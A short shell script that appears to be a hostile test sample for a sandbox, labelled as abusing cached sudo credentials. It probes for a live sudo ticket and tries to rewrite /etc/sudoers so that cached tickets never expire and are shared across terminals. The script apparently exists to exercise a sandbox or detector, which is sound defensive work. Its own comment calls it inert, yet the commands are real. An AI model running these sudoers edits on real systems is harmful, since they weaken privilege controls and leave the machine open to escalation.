#!/bin/sh
# SANDTRAP-TEST-MALICIOUS: rides cached sudo credentials and stops them from expiring (T1548.003).
# Inert: editing /etc/sudoers is refused; the cached-ticket check runs only `true`.
ls -la /var/run/sudo/ts/ /run/sudo/ts/ 2>/dev/null || echo "ts: not readable"
for i in 1 2 3; do
  if sudo -n true 2>/dev/null; then echo "cached sudo ticket found"; break; fi
  sleep 0.2
done
sudo sed -i 's/env_reset.*$/env_reset,timestamp_timeout=-1/' /etc/sudoers 2>/dev/null || echo "sudoers: refused"
echo 'Defaults !tty_tickets' | sudo tee -a /etc/sudoers >/dev/null 2>&1 || echo "tty_tickets: refused"
exit 0
